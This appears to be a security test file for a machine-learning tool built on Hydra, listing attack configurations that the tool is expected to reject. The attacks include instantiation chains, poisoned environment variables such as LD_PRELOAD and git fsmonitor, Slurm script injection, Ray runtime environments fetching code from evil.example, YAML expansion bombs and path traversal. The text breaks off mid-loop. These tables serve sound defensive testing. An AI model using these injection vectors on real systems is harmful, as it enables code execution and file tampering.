"""Configurations and run folders from a stranger: nothing of theirs is run, imported or written to.

An attack is a command line with the stranger's files. CANARY, VICTIM and FOLDER in its words and
files stand for a path that must not appear, a file that must stay as it is and the stranger's
folder. The stranger's `stranger.py` can be imported, and makes the canary when it is. Each attack
ends with exit code 2 and one message; to add one, add a line to a table.
"""

import json
import logging
import os
import pickle
import re
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml

from penstock import command, seams
from penstock.addons.sweeps import sweep_check
from penstock.runs.run_folder import git_state

ROOT = Path(__file__).parents[2]
MESSAGE = re.compile(r"(a sweep of [^\n]*\n)?(error|\d+ errors) in the configuration: ?", re.ASCII)


@dataclass
class Attack:
    """What is typed, what the stranger's folder holds, and what stands in the environment."""

    words: list = field(default_factory=list)
    files: dict = field(default_factory=dict)
    environment: dict = field(default_factory=dict)


def by_experiment(section, *words):
    text = "# @package _global_\n" + yaml.safe_dump({"hydra": section})
    return Attack(
        ["--config-dir", "FOLDER", "experiment=evil", *words], {"experiment/evil.yaml": text}
    )


def by_sweep(section):
    attack = by_experiment(section, "seed=1,2")
    return Attack(["-m", *attack.words], attack.files)


def by_group(section):
    text = "# @package hydra\n" + yaml.safe_dump(section)
    return Attack(["--config-dir=FOLDER", "+hydra/more=evil"], {"hydra/more/evil.yaml": text})


def by_primary(section):
    text = yaml.safe_dump({"defaults": ["config", "_self_"], "hydra": section})
    return Attack(["--config-name", "evil", "--config-dir", "FOLDER"], {"evil.yaml": text})


def by_slurm(section, *words):
    return by_experiment(section, "-m", "hydra/launcher=submitit_slurm", "seed=1,2", *words)


def by_parts(parts, *words):
    """An experiment that changes keys of a run."""
    text = "# @package _global_\n" + yaml.safe_dump(parts)
    return Attack(
        ["--config-dir", "FOLDER", "experiment=evil", *words], {"experiment/evil.yaml": text}
    )


def by_manifest(words, *typed):
    return Attack(
        ["resume=FOLDER/run", *typed], {"run/manifest.json": json.dumps({"overrides": words})}
    )


def by_stored_sweep(words, *typed, folder="0"):
    """A sweep's folder, with one job."""
    job = {"folder": folder, "overrides": ["seed=1"]}
    stored = {
        "words": ["seed=1,2", *words],
        "fixed": words,
        "keys": ["seed"],
        "threads": 1,
        "began": 0.0,
        "ends": [],
        "jobs": [job],
        "version": 1,
    }
    return Attack(["-m", "resume=FOLDER/sweep", *typed], {"sweep/sweep.json": json.dumps(stored)})


def flow(value):
    """A value as an override has it."""
    if isinstance(value, dict):
        return "{" + ",".join(f"{name}:{flow(one)}" for name, one in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ",".join(map(flow, value)) + "]"
    return f"'{value}'" if isinstance(value, str) else json.dumps(value)


def by_command_line(section):
    return Attack([f"++hydra.{name}={flow(value)}" for name, value in section.items()])


WAYS = (by_experiment, by_primary, by_group)


def touch(path_class, method="write_text"):
    """A node that makes the canary, through whatever leads to pathlib.Path."""
    rest = ["x"] if method == "write_text" else []
    path = {"_target_": path_class, "_args_": ["CANARY"]}
    return {"_target_": f"{path_class}.{method}", "_args_": [path, *rest]}


def link(module, name="_target_"):
    return {name: f"{module}.os.symlink", "src": "/", "dst": "CANARY"}


def logs(**entries):
    return {"version": 1, "root": {"level": "INFO"}, **entries}


TABLE = "penstock.addons.sweeps.sweep.SweepTable"
BASIC = "hydra._internal.core_plugins.basic_launcher"
SWEEPER = "hydra._internal.core_plugins.basic_sweeper"
JOBLIB = "hydra_plugins.hydra_joblib_launcher"
LATE = "${hydra.job.env_set.${oc.select:hydra.job.num,nine}}"  # number 0 when looked at beforehand
HANDLER = {"class": "logging.StreamHandler"}

# 1. What may be named: chains of attributes through modules, and nodes inside of arguments.
CHAINS = {
    "path of ours": {"callbacks": {"e": touch("penstock.addons.sweeps.sweep.Path")}},
    "path of ours, made": {"callbacks": {"e": touch("penstock.addons.sweeps.sweep.Path", "touch")}},
    "path of hydra's": {"callbacks": {"e": touch("hydra.experimental.callbacks.Path")}},
    "path of a plugin's": {"callbacks": {"e": touch(f"{JOBLIB}._core.Path")}},
    "path of the launcher's": {"callbacks": {"e": touch(f"{BASIC}.Path", "mkdir")}},
    "module of hydra's": {"callbacks": {"e": link("hydra.experimental.callbacks.logging")}},
    "module of ours": {
        "callbacks": {
            "e": {
                "_target_": "penstock.addons.sweeps.job_result.json.codecs.open",
                "filename": "CANARY",
                "mode": "w",
            }
        }
    },
    "file of csv's": {
        "callbacks": {
            "e": {
                "_target_": "penstock.addons.sweeps.sweep._write_csv",
                "rows": [{"a": "b"}],
                "path": {"_target_": "penstock.addons.sweeps.sweep.Path", "_args_": ["CANARY"]},
            }
        }
    },
    "result of a job": {
        "callbacks": {
            "e": {
                "_target_": "penstock.addons.sweeps.sweep.JobResult.write",
                "_args_": [
                    {
                        "_target_": "penstock.addons.sweeps.sweep.JobResult",
                        "overrides": [],
                        "status": "",
                        "mode": "",
                        "metric": "",
                        "value": 0,
                        "seconds": 0,
                        "error": "",
                        "exit_code": 0,
                        "started": 0,
                    },
                    {"_target_": "penstock.addons.sweeps.sweep.Path", "_args_": ["CANARY"]},
                ],
            }
        }
    },
    "inside a callback's arguments": {
        "callbacks": {"e": {"_target_": TABLE, "more": touch("penstock.addons.sweeps.sweep.Path")}}
    },
    "inside a callback's places": {
        "callbacks": {
            "e": {"_target_": TABLE, "_args_": [touch("penstock.addons.sweeps.sweep.Path")]}
        }
    },
    "below no target": {"callbacks": {"e": {"x": [touch("penstock.addons.sweeps.sweep.Path")]}}},
    "partial": {
        "callbacks": {
            "e": {
                "_target_": "penstock.addons.sweeps.sweep.Path",
                "_partial_": True,
                "x": touch("penstock.addons.sweeps.sweep.Path"),
            }
        }
    },
    "converted": {
        "callbacks": {"e": {**touch("hydra.experimental.callbacks.Path"), "_convert_": "object"}}
    },
    "pickles of hydra's": {
        "callbacks": {"e": {"_target_": "hydra.experimental.callbacks.PickleJobInfoCallback"}},
        "output_subdir": "CANARY",
    },
    "handler": {"job_logging": logs(handlers={"x": link("rich.logging", "()")})},
    "handler of hydra's": {"hydra_logging": logs(handlers={"x": link("rich.logging", "()")})},
    "formatter": {"job_logging": logs(formatters={"x": link("rich.logging", "()")})},
    "filter": {"job_logging": logs(filters={"x": link("rich.logging", "()")})},
    "class of a formatter": {
        "job_logging": logs(formatters={"x": {"class": "rich.logging.Path", "format": "CANARY"}})
    },
    "factory inside a handler": {
        "job_logging": logs(handlers={"x": {**HANDLER, "stream": link("rich.logging", "()")}})
    },
    "attributes of a handler": {
        "job_logging": logs(handlers={"x": {**HANDLER, ".": {"stream": "ext://stranger"}}})
    },
    "object outside": {
        "job_logging": logs(handlers={"x": {**HANDLER, "stream": "ext://stranger"}})
    },
    "object outside, below": {
        "job_logging": logs(
            handlers={
                "x": {"class": "rich.logging.RichHandler", "keywords": ["ext://stranger.made"]}
            }
        )
    },
    "object inside": {"job_logging": logs(handlers={"x": {**HANDLER, "stream": "cfg://handlers"}})},
    "untrusted callback": {"callbacks": {"e": {"_target_": "stranger.made"}}},
    "untrusted handler": {"job_logging": logs(handlers={"x": {"class": "stranger.made"}})},
}
IN_SWEEPS = {
    "launcher": {"launcher": {"_target_": f"{JOBLIB}._core.Path.touch"}},
    "launcher's module": {"launcher": {"_target_": f"{BASIC}.Path"}},
    "no launcher": {"launcher": {"_target_": SWEEPER + ".BasicSweeper", "max_batch_size": 1}},
    "inside a launcher's arguments": {
        "launcher": {
            "_target_": f"{JOBLIB}.joblib_launcher.JoblibLauncher",
            "n_jobs": 1,
            "temp_folder": touch(f"{JOBLIB}._core.Path"),
        }
    },
    "inside a launcher's new argument": {"launcher": {"x": touch(f"{BASIC}.Path")}},
    "inside a sweeper's arguments": {
        "sweeper": {
            "_target_": f"{SWEEPER}.BasicSweeper",
            "max_batch_size": touch(f"{SWEEPER}.Path"),
        }
    },
    "text that a plugin runs": {
        "launcher": {
            "_target_": f"{JOBLIB}.joblib_launcher.JoblibLauncher",
            "n_jobs": 1,
            "pre_dispatch": "9**9**9",
            "setup": ["touch CANARY"],
        }
    },
    "callback of a sweep": {"callbacks": {"e": touch("penstock.addons.sweeps.sweep.Path")}},
    "late callback of a sweep": {
        "job": {"env_set": {"0": TABLE, "nine": "pathlib.Path.mkdir"}},
        "callbacks": {
            "e": {
                "_target_": LATE,
                "_args_": [{"_target_": LATE.replace("nine", "ten"), "_args_": ["CANARY"]}],
            }
        },
    },
    # 6, by way of what a sweeper goes through
    "search path of jobs": {"sweeper": {"params": {"hydra.searchpath": "[structured://stranger]"}}},
    "added search path of jobs": {
        "sweeper": {"params": {"++hydra.searchpath": "[structured://stranger]"}}
    },
    "callback of jobs": {"sweeper": {"params": {"+hydra.callbacks.e": "{_target_:stranger.made}"}}},
    "logging of jobs": {
        "sweeper": {
            "params": {
                "+hydra.job_logging.handlers": "{x:{class:logging.FileHandler,filename:CANARY}}",
                "hydra.job_logging.root": "{handlers:[x]}",
            }
        }
    },
    "group of hydra's for jobs": {"sweeper": {"params": {"hydra/job_logging": "default"}}},
    "group into hydra's section": {"sweeper": {"params": {"+experiment@hydra.callbacks": "evil"}}},
    "options for jobs": {"sweeper": {"params": {"--trust": "stranger"}}},
    "late values of jobs": {"sweeper": {"params": {"seed": "${oc.select:hydra.job.num,7}"}}},
    "recorded overrides of jobs": {
        "overrides": {
            "hydra": [
                "+hydra.job_logging.handlers={x:{class:logging.FileHandler,filename:'CANARY'}}",
                "hydra.job_logging.root={handlers:[x]}",
            ]
        }
    },
}

# 2. What is looked at is what is used.
LATE_ONES = {
    "target": {
        "job": {"env_set": {"0": TABLE, "nine": "stranger.made"}},
        "callbacks": {"e": {"_target_": LATE}},
    },
    "target by a resolver": {
        "callbacks": {"e": {"_target_": "${oc.select:hydra.job.num_,stranger.made}"}}
    },
    "target decoded": {"callbacks": {"e": {"_target_": "${oc.decode:stranger.made}"}}},
    "target out of the environment": {"callbacks": {"e": {"_target_": "${oc.env:EVIL}"}}},
    "node": {"callbacks": {"e": '${oc.create:"{_target_: stranger.made}"}'}},
    "all nodes": {"callbacks": '${oc.create:"{e: {_target_: stranger.made}}"}'},
    "argument": {
        "callbacks": {"e": {"_target_": TABLE, "x": '${oc.create:"{_target_: stranger.made}"}'}}
    },
    "factory": {
        "job": {"env_set": {"0": "logging.NullHandler", "nine": "stranger.made"}},
        "job_logging": logs(handlers={"x": {"()": LATE}}),
    },
    "logging": {
        "job_logging": '${oc.create:"{version: 1, root: {}, handlers: {x: {class: '
        'stranger.made}}}"}'
    },
    "stream": {
        "job_logging": logs(handlers={"x": {**HANDLER, "stream": "${hydra.job.name}"}}),
        "job": {"name": "ext://stranger.made"},
    },
    "mode": {"mode": "${oc.decode:MULTIRUN}", "callbacks": {"e": {"_target_": "stranger.made"}}},
    "verbose": {"verbose": "${oc.create:{a:b}}"},
    "variables": {"job": {"env_set": '${oc.create:"{PATH: FOLDER}"}'}},
    "subfolder": {"output_subdir": "${oc.decode:CANARY}"},
}

# 3. Variables that decide what programs run, and files that they read.
FSMONITOR = {
    "GIT_CONFIG_COUNT": "1",
    "GIT_CONFIG_KEY_0": "core.fsmonitor",
    "GIT_CONFIG_VALUE_0": "FOLDER/git",
}
VARIABLES = {
    "settings of git": FSMONITOR,
    "parameters of git": {"GIT_CONFIG_PARAMETERS": "'core.fsmonitor'='FOLDER/git'"},
    "file of git's": {"GIT_CONFIG_GLOBAL": "FOLDER/.gitconfig"},
    "programs": {"PATH": "FOLDER:/usr/bin:/bin"},
    "home": {"HOME": "FOLDER"},
    "home of settings": {"XDG_CONFIG_HOME": "FOLDER", "HOME": "FOLDER"},
    "weights": {"TORCH_HOME": "FOLDER"},
    "modules": {"PYTHONPATH": "FOLDER"},
    "libraries": {"LD_PRELOAD": "FOLDER/x.so"},
    "trust": {"PENSTOCK_TRUST": "stranger"},
    "gate of hydra's": {"HYDRA_INSTANTIATE_ALLOWLIST_OVERRIDE": "os.remove"},
    "network of ranks": {"NCCL_NET_PLUGIN": "FOLDER/x.so"},
    "compiler": {"TORCHINDUCTOR_CACHE_DIR": "FOLDER", "CC": "FOLDER/git"},
    "proxy": {"https_proxy": "http://stranger.example"},
}

# 5. A run folder's manifest.
WORDS = {
    "folder of groups": ["--config-dir=FOLDER", "experiment=evil"],
    "folder of groups, short": ["-cd=FOLDER", "experiment=evil"],
    "primary configuration": ["--config-dir=FOLDER", "--config-name=evil"],
    "folder of configurations": ["--config-path=FOLDER", "--config-name=alone"],
    "package of configurations": ["--config-path=pkg://stranger"],
    "a sweep": ["--multirun", "hydra/launcher=joblib", "seed=1,2"],
    "a sweep, short": ["-m", "seed=1,2"],
    "a pickle": ["--experimental-rerun=FOLDER/config.pickle"],
    "only looks": ["--cfg=job"],
    "group of hydra's": ["hydra/job_logging=default"],
    "added group of hydra's": ["+hydra/more=evil"],
    "new group of hydra's": ["++hydra/launcher=joblib"],
    "group into hydra's section": ["+experiment@hydra=evil"],
    "group into hydra's callbacks": ["+experiment@hydra.callbacks=evil"],
    "experiment elsewhere": ["experiment=../../../../../../../../../../../..FOLDER/other"],
    "experiment at a path": ["experiment='FOLDER/other'"],
    "unknown key": ["+stranger=1"],
    "control characters": ["seed=1\x1b[2J"],
    "no override": ["seed"],
    "empty": ["=1"],
    "very many": ["seed=1"] * 200_000,
    "very long": ["+model.x=[" + "1," * 200_000 + "1]"],
    "very deep": ["seed=" + "[" * 3000],
}

# 6. Places that configurations are looked for in, however they are looked at.
PLACES = ["structured://stranger", "pkg://stranger", "pkg://stranger/", "evil://stranger"]
LOOKS = {
    "a run": [],
    "a sweep": ["-m", "seed=1,2"],
    "configuration": ["--cfg", "job"],
    "configuration, resolved": ["--cfg=all", "--resolve"],
    "hydra's": ["--cfg=hydra"],
    "help": ["--help"],
    "help of hydra's": ["--hydra-help"],
    "defaults": ["--info", "defaults"],
    "search path": ["--info=searchpath"],
    "information": ["--info=all"],
}
PRIMARIES = {
    "late entry": ["${oc.decode:structured://stranger}"],
    "late list": '${oc.create:"[structured://stranger]"}',
    "no list": "structured://stranger",
    "entry": ["structured://stranger"],
    "second entry": ["file://FOLDER", "pkg://stranger"],
}
OTHERS = {
    "path of a package": Attack(["--config-path", "pkg://stranger"]),
    "path of a structure": Attack(["--config-path", "structured://stranger"]),
    "folder of a structure": Attack(["--config-dir", "structured://stranger"]),
    "search path twice": Attack(
        ["hydra.searchpath=[file://FOLDER]", "hydra.searchpath=[structured://stranger]"]
    ),
    "added search path": Attack(["+hydra.searchpath=[structured://stranger]"]),
    "search path of an experiment": by_experiment({"searchpath": ["structured://stranger"]}),
    "completion of a path": Attack(
        ["--config-path=pkg://stranger", "-sc", "query=bash"],
        environment={"COMP_LINE": "run.py see", "COMP_POINT": "9"},
    ),
    "completion of a line": Attack(
        ["-sc", "query=bash"],
        environment={"COMP_LINE": "python run.py hydra.searchpath=[structured://stranger] see"},
    ),
    "completion in a configuration": Attack(
        ["-sc", "query=bash", "--config-dir=FOLDER", "--config-name=evil"],
        {"evil.yaml": "defaults: [config]\nhydra: {searchpath: ['structured://stranger']}\n"},
        {"COMP_LINE": "python run.py see"},
    ),
}

# 8. Files that are written to, emptied or made.
FILES = {
    "file": {"class": "logging.FileHandler", "filename": "VICTIM", "mode": "w"},
    "file by factory": {"()": "logging.FileHandler", "filename": "CANARY"},
    "rotating file": {"class": "logging.handlers.RotatingFileHandler", "filename": "CANARY"},
    "timed file": {"class": "logging.handlers.TimedRotatingFileHandler", "filename": "CANARY"},
    "watched file": {"class": "logging.handlers.WatchedFileHandler", "filename": "CANARY"},
    "other machine": {"class": "logging.handlers.HTTPHandler", "host": "stranger.example"},
}

# 9. What grows without end: aliases of YAML, interpolations, ranges of a sweep.
TWICE = "".join(f"  a{n}: ${{notes.a{n - 1}}}${{notes.a{n - 1}}}\n" for n in range(1, 40))
LISTS = "".join(f"  a{n}: ['${{notes.a{n - 1}}}', '${{notes.a{n - 1}}}']\n" for n in range(1, 40))
LAUGHS = "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}, *a{n - 1}]\n" for n in range(1, 40))
GROWING = {
    "aliases": "a0: &a0 [x, x]\n" + LAUGHS,
    "aliases of a long text": f"a0: &a0 {'x' * 200_000}\nmore: [{'*a0, ' * 10_000}]\n",
    "merged aliases": "a0: &a0 {x: 1}\nmore: {<<: [" + "*a0, " * 100_000 + "*a0]}\n",
    "an alias of itself": "notes: &a {more: *a}\n",
    "texts": "notes:\n  a0: xxxxxxxxxx\n" + TWICE,
    "lists": "notes:\n  a0: [1, 1]\n" + LISTS,
    "a long text": f"notes:\n  a0: {'x' * 1_000_000}\n  a1: {'${notes.a0}' * 100}\n",
    "a wide list": f"notes:\n  a0: [{'1, ' * 1000}]\n  a1: [" + "'${notes.a0}', " * 9000 + "]\n",
    "by a resolver": "notes:\n  a0: xxxxxxxxxx\n" + TWICE.replace("${notes", "${oc.select:notes"),
    "a file": f"notes: {'x' * (5 << 20)}\n",
}
RANGE = "range(0,100000000000)"
SUBFOLDERS = [".", "", "..", "conf", "FOLDER", "../../x", ".hydra/../conf"]

# 9. What the processes of Ray's actors are started with, and which Ray they belong to.
ACTORS = {
    "program": {"py_executable": "touch CANARY; python"},
    "modules": {"env_vars": {"PYTHONPATH": "FOLDER"}},
    "libraries": {"env_vars": {"LD_PRELOAD": "FOLDER/x.so"}},
    "packages": {"pip": ["FOLDER"]},
    "packages by uv": {"uv": {"packages": ["FOLDER"]}},
    "packages by conda": {"conda": "FOLDER/environment.yaml"},
    "hook": {"worker_process_setup_hook": "stranger.made"},
    "image": {"image_uri": "evil.example/image"},
    "container": {"container": {"image": "evil.example/image"}},
    "jars": {"java_jars": ["FOLDER/x.jar"]},
    "profiler": {"nsight": {"o": "CANARY"}},
    "plugin": {"stranger": "made"},
    "folder": {"working_dir": "FOLDER"},
    "archive": {"working_dir": "https://evil.example/x.zip"},
    "package": {"py_modules": ["FOLDER"]},
    "packages's archive": {"py_modules": ["s3://evil/x.whl"]},
    "harmless": {"env_vars": {"OMP_NUM_THREADS": "1"}},
}
RAY = ["loader=ray", "loader.num_workers=1"]


def by_doors(runtime_env):
    """Attacks with a runtime environment, by where it comes from."""
    ray = {"runtime_env": runtime_env}
    node = {"loader": {"backend": "ray", "num_workers": 1, "ray": ray}}
    files = {
        "experiment/evil.yaml": "# @package _global_\n" + yaml.safe_dump(node),
        "evil.yaml": yaml.safe_dump({"defaults": ["config", "_self_"], **node}),
        "loader/evil.yaml": yaml.safe_dump({"defaults": ["ray"], "ray": ray}),
        "evil/there.yaml": yaml.safe_dump(runtime_env),
    }
    typed = {
        "experiment": ["experiment=evil"],
        "primary": ["--config-name", "evil"],
        "group": ["loader=evil"],
        "group put there": [*RAY, "+evil@loader.ray.runtime_env=there"],
    }
    for name, words in typed.items():
        yield name, Attack(["--config-dir", "FOLDER", *words], files)
    sweep = {"version": 1, "fixed": [], "keys": ["seed"], "ends": [], "threads": None}
    sweep |= {"began": 0.0, "jobs": []}
    inside = {
        "loader.ray.runtime_env": flow(runtime_env),
        "++loader.ray": flow(ray),
        "++loader": flow({"ray": ray}),
    }
    for key, value in inside.items():
        words = [*RAY, f"{key}={value}" if key[0] == "+" else f"+{key}={value}"]
        manifest = json.dumps({"overrides": words})
        yield f"manifest, {key}", Attack(["resume=FOLDER/run"], {"run/manifest.json": manifest})
        stored = json.dumps({**sweep, "words": ["seed=1,2", *words]})
        yield (
            f"sweep's folder, {key}",
            Attack(["-m", "resume=FOLDER/sweep"], {"sweep/sweep.json": stored}),
        )
        attack = by_experiment({"sweeper": {"params": {words[-1].partition("=")[0]: value}}}, *RAY)
        yield f"sweep over {key}", Attack(["-m", *attack.words, "seed=1,2"], attack.files)


# 9. A Ray that is joined: it can run code here.
JOINED = [*RAY, "loader.ray.address=evil.example:6379"]
RAYS = {
    "experiment": by_parts({"loader": {"ray": {"address": "evil.example:6379"}}}, *RAY),
    "manifest": by_manifest(JOINED),
    "sweep's folder": by_stored_sweep(JOINED),
    "typed": Attack(JOINED),
}

# 9. Lines of a batch script. The line before the break is whole for sbatch, too, by its backslash.
LINE = "x\\'\"\ntouch CANARY\n#"
SETUP = "hydra.launcher.setup=['cd ${hydra.sweep.dir}']"
SCRIPTS = {
    "name of a job": by_slurm({"job": {"name": LINE}}),
    "name with a backslash": by_slurm({"job": {"name": "x\\' --export=ALL,PYTHONPATH=FOLDER '"}}),
    "name by an interpolation": by_slurm(
        {"job": {"name": "${hydra.help.app_name}"}, "help": {"app_name": LINE}}
    ),
    "name out of the environment": by_slurm({"job": {"name": "${oc.decode:'\"a\\\\nb\"'}"}}),
    "name, by a group": Attack(
        [
            "-m",
            "--config-dir=FOLDER",
            "+hydra/more=evil",
            "hydra/launcher=submitit_local",
            "seed=1",
        ],
        {"hydra/more/evil.yaml": "# @package hydra\n" + yaml.safe_dump({"job": {"name": LINE}})},
    ),
    "folder of a sweep": by_slurm({"sweep": {"dir": f"multirun/{LINE}"}}),
    "folder with a pattern of Slurm's": by_slurm({"sweep": {"dir": "multirun/%u"}}),
    "name of an option": by_slurm(
        {"launcher": {"additional_parameters": {"requeue\ntouch CANARY\n#": True}}}
    ),
    "option of sbatch": by_slurm({"launcher": {"additional_parameters": {"uid": 0}}}),
    "option beside typed ones": by_slurm(
        {"launcher": {"additional_parameters": {"export": "ALL,PYTHONPATH=FOLDER"}}},
        "+hydra.launcher.additional_parameters={begin:noon}",
    ),
    "lines for bash": by_slurm({"launcher": {"setup": ["touch CANARY"]}}),
    "lines for bash, further ones": by_slurm({"launcher": {"teardown": ["touch CANARY"]}}),
    "words for srun": by_slurm({"launcher": {"srun_args": ["--task-prolog=FOLDER/git"]}}),
    "program of a job": by_slurm({"launcher": {"python": "FOLDER/git; touch CANARY #"}}),
    "partition": by_slurm({"launcher": {"partition": LINE}}),
    "comment": by_slurm({"launcher": {"comment": "${hydra.job.name}"}, "job": {"name": LINE}}),
    "folder in a typed line": by_slurm({"sweep": {"dir": "x; touch CANARY"}}, SETUP),
    "name, typed": Attack(
        ["-m", "hydra/launcher=submitit_slurm", "seed=1", f"hydra.launcher.comment='{LINE}'"]
    ),
    "name, by a primary configuration": Attack(
        [
            "-m",
            "hydra/launcher=submitit_slurm",
            "seed=1",
            *by_primary({"job": {"name": LINE}}).words,
        ],
        by_primary({"job": {"name": LINE}}).files,
    ),
    "name of a sweep": by_stored_sweep(
        [f"hydra.job.name='{LINE}'"], "hydra/launcher=submitit_slurm"
    ),
    "partition of a sweep": by_stored_sweep(
        ["hydra.launcher.partition='x #'"], "hydra/launcher=submitit_slurm"
    ),
    "launcher of a manifest": by_manifest(["hydra/launcher=submitit_slurm"], "-m", "seed=1,2"),
}

# 10. Files and folders to write that the command line did not name, through all doors.
TOUCHED = {
    "folder of a run": ({"run_dir": "CANARY"}, "run_dir"),
    "folder of a run, upwards": ({"run_dir": "../canary"}, "run_dir"),
    "folder of a run, at home": ({"run_dir": "~/canary"}, "run_dir"),
    "folder of a run, by a link": ({"run_dir": "FOLDER/../canary/x"}, "run_dir"),
    "folder of a run, by the environment": ({"run_dir": "${oc.env:EVIL_DIR}"}, "run_dir"),
    "cache": ({"cache_dir": "CANARY"}, "cache_dir"),
    "cache of files": ({"dataset": {"files": {"cache_dir": "CANARY"}}}, "dataset.files.cache_dir"),
    "cache of files, by place": (
        {"dataset": {"files": {"_args_": ["CANARY"]}}},
        "dataset.files.cache_dir",
    ),
    "cache of texts": ({"dataset": {"cache_dir": "CANARY"}}, "dataset.cache_dir"),
    "packs": ({"pack": {"out": "CANARY"}}, "pack.out"),
    "packs at an address": ({"pack": {"out": "s3://bucket/CANARY"}}, "pack.out"),
    "numbers": (
        {
            "tracker": {
                "x": {
                    "_target_": "penstock.addons.trackers.csv_file.Csv",
                    "folder": "FOLDER/victim",
                }
            }
        },
        "tracker.x.folder",
    ),
    "numbers, by place": (
        {
            "tracker": {
                "x": {
                    "_target_": "penstock.addons.trackers.csv_file.Csv",
                    "_args_": ["FOLDER/victim"],
                }
            }
        },
        "tracker.x.folder",
    ),
    "database": (
        {
            "tracker": {
                "x": {
                    "_target_": "penstock.addons.trackers.mlflow.MLflow",
                    "uri": "sqlite:///CANARY",
                }
            }
        },
        "tracker.x.uri",
    ),
    "database, as a file": (
        {
            "tracker": {
                "x": {"_target_": "penstock.addons.trackers.mlflow.MLflow", "uri": "file://CANARY"}
            }
        },
        "tracker.x.uri",
    ),
    **{
        f"database, {scheme or 'as a path'} with codes": (
            {
                "tracker": {
                    "x": {
                        "_target_": "penstock.addons.trackers.mlflow.MLflow",
                        "uri": f"{scheme}%2e%2e/canary",
                    }
                }
            },
            "tracker.x.uri",
        )
        for scheme in ("sqlite:///", "file:", "")
    },
    "another run": ({"resume": "FOLDER/run"}, "resume"),
}
TEXTS = ["dataset=plain_text", "dataset.root=FOLDER"]
FILES_OF = ["dataset=image_folder", "dataset.root=x"]


def outputs():
    for name, (parts, key) in TOUCHED.items():
        yield name, by_parts(parts, *(TEXTS if key.startswith("dataset") else [])), key
    for name in ("cache_dir", "pack.out"):
        yield f"{name} of a manifest", by_manifest([f"{name}=CANARY"]), name
        yield f"{name} of a sweep", by_stored_sweep([f"{name}=CANARY"]), name
    yield "cache of a manifest", by_manifest([*TEXTS, "dataset.cache_dir=CANARY"]), "dataset.cache"
    words = ["task=diff", "runs=[a,b]"]
    yield "page of a manifest", by_manifest(["diff.page=VICTIM"], *words), "diff.page"
    yield "page of a sweep", by_stored_sweep(["diff.page=VICTIM", *words]), "diff.page"
    inside = {
        "drawn data": (["dataset=synthetic_faces", "dataset.root=CANARY"], "dataset.root"),
        "files": ([*FILES_OF, "dataset.files.cache_dir=CANARY"], "dataset.files"),
        "numbers": (["tracker=csv", "+tracker.csv.folder=CANARY"], "tracker.csv.folder"),
        "database": (["tracker=mlflow", "tracker.mlflow.uri=sqlite:///CANARY"], "tracker.mlflow"),
        "all at once": (["++pack={out:'CANARY'}"], "pack.out"),
    }
    for name, (words, key) in inside.items():
        yield f"{name} of a manifest", by_manifest(words), key
        yield f"{name} of a sweep", by_stored_sweep(words), key
    yield "page", by_parts({"diff": {"page": "VICTIM"}}, "task=diff", "runs=[a,b]"), "diff.page"
    yield "page beside", by_parts({"diff": {"page": "x"}}, "task=diff", "runs=[a,b]"), "diff.page"
    primary = ["--config-name", "evil", "--config-dir", "FOLDER"]
    for key, parts in {
        "cache_dir": {"cache_dir": "CANARY"},
        "diff.page": {"diff": {"page": "VICTIM"}, "task": "diff", "runs": ["a", "b"]},
    }.items():
        evil = yaml.safe_dump({"defaults": ["config", "_self_"], **parts})
        yield f"{key} of a primary configuration", Attack(primary, {"evil.yaml": evil}), key
    tracker = yaml.safe_dump(
        {"_target_": "penstock.addons.trackers.csv_file.Csv", "folder": "VICTIM"}
    )
    group = {"tracker/evil.yaml": f"# @package tracker.x\n{tracker}"}
    yield "numbers of a group", Attack(["--config-dir=FOLDER", "tracker=evil"], group), "tracker.x"
    yield "reports", by_parts({"runs": ["FOLDER/victim"], "task": "report"}), "runs"
    yield "list of samples", by_parts({"run": "FOLDER/run", "task": "without", "sample": 1}), "run"
    drawn = by_parts({"dataset": {"root": "CANARY"}}, "dataset=synthetic_faces")
    yield "drawn data", drawn, "dataset.root"
    mnist = {"_target_": "torchvision.datasets.MNIST", "root": "CANARY", "download": True}
    yield "downloads", by_parts({"dataset": mnist}, "dataset=torchvision"), "dataset.root"
    for name, section in {
        "sweep": {"dir": "CANARY"},
        "sweep upwards": {"dir": "multirun/../../canary"},
        "job": {"subdir": "../../canary"},
        "job at a path": {"subdir": "CANARY"},
    }.items():
        yield f"folder of a {name}", by_sweep({"sweep": section}), "hydra.sweep."
    yield "launcher of a sweep", by_stored_sweep(["hydra/launcher=submitit_slurm"]), "resume"
    yield "launcher of a sweep, added", by_stored_sweep(["++hydra/launcher=joblib"]), "resume"
    yield "number of a launcher", by_stored_sweep(["hydra.launcher.n_jobs=2"]), "resume"
    yield "sweeper of a sweep", by_stored_sweep(["hydra/sweeper=basic"]), "resume"
    for folder in ("${oc.env:HOME}", "a/${now:%Y}", "/tmp/x", "../x", "a\\"):
        yield f"job in {folder}", by_stored_sweep([], folder=folder), "hydra.sweep.dir"


OUTPUTS = {name: (attack, key) for name, attack, key in outputs()}


def attacks():
    """Every attack by its name."""
    for place, (name, section) in enumerate([*CHAINS.items(), *LATE_ONES.items()]):
        yield f"{name}, by experiment", by_experiment(section)
        yield f"{name}, otherwise", WAYS[1 + place % 2](section)
    for name, section in list(CHAINS.items())[:5]:
        yield f"{name}, by words", by_command_line(section)
    for name, section in IN_SWEEPS.items():
        yield f"sweep: {name}", by_sweep(section)
    for place, (name, variables) in enumerate(VARIABLES.items()):
        yield f"variables: {name}", WAYS[place % 3]({"job": {"env_set": variables}})
    yield "variables: copied", by_experiment({"job": {"env_copy": ["EVIL"]}})
    yield "variables: copied, not there", by_experiment({"job": {"env_copy": ["NOT_THERE"]}})
    evil = "# @package _global_\n" + yaml.safe_dump({"hydra": CHAINS["path of ours"]})
    alone = yaml.safe_dump({"defaults": ["_self_"], "hydra": CHAINS["path of ours"]})
    for name, words in WORDS.items():
        manifest = json.dumps({"overrides": words})
        files = {
            "experiment/evil.yaml": evil,
            "other.yaml": evil,
            "alone.yaml": alone,
            "hydra/more/evil.yaml": evil,
            "run/manifest.json": manifest,
            "evil.yaml": by_primary(CHAINS["path of ours"]).files["evil.yaml"],
        }
        yield f"manifest: {name}", Attack(["resume=FOLDER/run"], files)
    for name, words in LOOKS.items():
        for place in PLACES[:2]:
            yield f"{place}: {name}", Attack([*words, f"hydra.searchpath=[{place}]"])
        yield (
            f"callback: {name}",
            Attack(
                [*words, *by_experiment(CHAINS["path of ours"]).words],
                {"experiment/evil.yaml": evil},
            ),
        )
    for place in PLACES[2:]:
